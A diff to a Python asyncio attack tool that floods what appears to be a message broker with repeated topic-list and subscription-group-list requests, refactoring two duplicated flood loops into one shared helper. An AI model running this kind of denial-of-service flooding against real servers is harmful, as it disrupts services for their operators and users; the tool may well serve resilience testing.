@@ -11,7 +11,7 @@ import random
 import resource
 import struct
 import time
-from collections.abc import AsyncIterator, Callable, Mapping
+from collections.abc import AsyncIterator, Callable, Mapping, Sequence
 
 import click
 
@@ -293,6 +293,16 @@ async def wide_heartbeats(attacker: Attacker) -> AsyncIterator[None]:
     await asyncio.gather(*map(beat, clients, bodies))
 
 
+async def _repeat(attacker: Attacker, code: Code, clients: Sequence[RawClient], bodies: Sequence[bytes]) -> None:
+    """Send each client's request again and again, as long as the attack lasts."""
+
+    async def flood(client: RawClient, body: bytes) -> None:
+        while attacker.has_time_left:
+            await ask(client, code, None, body)
+
+    await asyncio.gather(*map(flood, clients, bodies))
+
+
 async def topic_lists(attacker: Attacker) -> AsyncIterator[None]:
     """UPDATE_AND_CREATE_TOPIC_LIST of 2,000 topics, again and again from two addresses"""
     clients = [await attacker.connect() for _ in range(2)]
@@ -303,11 +313,7 @@ async def topic_lists(attacker: Attacker) -> AsyncIterator[None]:
     ]
     yield
 
-    async def flood(client: RawClient, body: bytes) -> None:
-        while attacker.has_time_left:
-            await ask(client, Code.UPDATE_AND_CREATE_TOPIC_LIST, None, body)
-
-    await asyncio.gather(*map(flood, clients, bodies))
+    await _repeat(attacker, Code.UPDATE_AND_CREATE_TOPIC_LIST, clients, bodies)
 
 
 async def group_lists(attacker: Attacker) -> AsyncIterator[None]:
@@ -320,11 +326,7 @@ async def group_lists(attacker: Attacker) -> AsyncIterator[None]:
     ]
     yield
 
-    async def flood(client: RawClient, body: bytes) -> None:
-        while attacker.has_time_left:
-            await ask(client, Code.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP_LIST, None, body)
-
-    await asyncio.gather(*map(flood, clients, bodies))
+    await _repeat(attacker, Code.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP_LIST, clients, bodies)
 
 
 async def tag_lists(attacker: Attacker) -> AsyncIterator[None]:
